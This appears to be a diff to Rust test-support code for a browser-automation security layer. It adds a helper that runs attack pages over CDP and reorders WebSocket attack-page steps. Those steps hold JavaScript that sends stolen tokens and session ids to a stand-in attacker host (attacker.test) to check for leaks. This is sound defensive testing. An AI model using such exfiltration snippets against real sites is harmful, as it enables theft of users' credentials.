@@ -514,17 +514,19 @@ pub fn secrets_in(hay: &[u8]) -> Vec<String> {
     found
 }
 
-/// Asserts that `text` holds no secret in any form.
+/// Asserts that `text` holds no secret in any form; the failure shows the offending lines.
 pub fn assert_clean(what: &str, text: &[u8]) {
     let found = secrets_in(text);
-    assert!(
-        found.is_empty(),
-        "{what} contains {found:?}:\n{}",
-        String::from_utf8_lossy(text)
-            .chars()
-            .take(6000)
-            .collect::<String>()
-    );
+    if found.is_empty() {
+        return;
+    }
+    let lines: Vec<String> = text
+        .split(|b| *b == b'\n')
+        .filter(|l| !secrets_in(l).is_empty())
+        .take(5)
+        .map(|l| String::from_utf8_lossy(l).chars().take(3000).collect())
+        .collect();
+    panic!("{what} contains {found:?} in:\n{}", lines.join("\n"));
 }
 
 /// Removes `Authorization:` and `Cookie:` header lines. Bare Chromium stands in for injection
@@ -756,7 +758,8 @@ window.attack = async () => {
 
 /// The exfiltration step of each attack page on the bank. Each sends the looted values, then a
 /// canary (`canary=<name>`) over the same channel: the canary's arrival proves the channel works
-/// through the browser under test and that the page ran to the end.
+/// through the browser under test and that the page ran to the end. WebSocket pages send the
+/// canary first: chaperone may end the session on a WebSocket leak (see `credentials.rs`).
 fn attack_js(name: &str) -> Option<&'static str> {
     Some(match name {
         "fetch" => {
@@ -813,8 +816,8 @@ async function run(tok, sid) {
   w.onerror = () => res('error');
 });
 async function run(tok, sid) {
-  await step('ws', () => ws(WA + '/ws?via=websocket&d=' + tok, 'sid=' + sid + '&tok=' + tok));
   await step('canary', () => ws(WA + '/ws?canary=websocket', 'canary'));
+  await step('ws', () => ws(WA + '/ws?via=websocket&d=' + tok, 'sid=' + sid + '&tok=' + tok));
 }"#
         }
         // The attacker has no certificate the browser trusts (chaperone adds no trust anchor and
@@ -828,8 +831,8 @@ async function run(tok, sid) {
   w.onerror = () => res('error');
 });
 async function run(tok, sid) {
-  await step('wss', () => wss('wss://' + sid.toLowerCase() + '.attacker.test:' + AP + '/ws'));
   await step('canary', () => wss('wss://canary.attacker.test:' + AP + '/ws'));
+  await step('wss', () => wss('wss://' + sid.toLowerCase() + '.attacker.test:' + AP + '/ws'));
 }"#
         }
         "eventsource" => {
@@ -1310,6 +1313,41 @@ impl World {
         v
     }
 
+    /// [`World::run_attack`] for an attack that may end the session: `None` when the agent's
+    /// connection ended before the page answered.
+    pub async fn try_attack(&self, c: &mut Cdp, s: &str) -> Option<Value> {
+        const ID: u64 = 900_001;
+        c.send_raw(
+            json!({"id": ID, "method": "Runtime.evaluate", "sessionId": s,
+                "params": {"expression": "attack()", "awaitPromise": true, "returnByValue": true,
+                    "userGesture": true}})
+            .to_string(),
+        )
+        .await;
+        loop {
+            match c.recv().await {
+                Ok(r) if r["id"] == ID => {
+                    let v = r["result"]["result"]["value"].clone();
+                    eprintln!("[attack] {v}");
+                    assert_eq!(
+                        v["found"], true,
+                        "the page found no credentials in /echo: {r}"
+                    );
+                    return Some(v);
+                }
+                Ok(_) => continue,
+                Err(e) => {
+                    eprintln!("[attack] the agent's connection ended: {e:?}");
+                    assert!(
+                        self.sites.bank.requests_to("/echo").iter().any(|r| r.authenticated()),
+                        "the bank's /echo never got the credentials, so the page had nothing to steal"
+                    );
+                    return None;
+                }
+            }
+        }
+    }
+
     /// Waits (bounded) until the attacker recorded the canary `canary=<name>`.
     pub async fn wait_canary(&self, name: &str) {
         let needle = format!("canary={name}");
@@ -1442,6 +1480,34 @@ impl World {
             }
         }
     }
+}
+
+/// Runs a Node driver from `tests/clients` with its client's protocol log on (Playwright's
+/// `pw:protocol`, Puppeteer's `puppeteer:protocol:*`); returns its verdict and the log, which
+/// holds every CDP message the client received.
+pub fn node_client_logged(script: &str, env: &[(&str, String)]) -> (Value, String) {
+    let dir = super::repo().join("tests/clients");
+    let mut cmd = Command::new("node");
+    cmd.arg(dir.join(script))
+        .current_dir(&dir)
+        .env("DEBUG", "pw:protocol,puppeteer:protocol:*")
+        .env("DEBUG_COLORS", "0")
+        .stdin(Stdio::null());
+    for (k, v) in env {
+        cmd.env(k, v);
+    }
+    let out = cmd.output().expect("run node");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let log = String::from_utf8_lossy(&out.stderr).into_owned();
+    let line = stdout.lines().last().unwrap_or("");
+    let verdict =
+        serde_json::from_str(line).unwrap_or_else(|_| json!({"ok": false, "raw": stdout}));
+    assert!(
+        log.contains("RECV") || log.contains("◀"),
+        "{script} logged no protocol traffic; is DEBUG honoured? {}",
+        log.chars().take(2000).collect::<String>()
+    );
+    (verdict, log)
 }
 
 /// Navigates and waits (bounded) for the tab's load event.
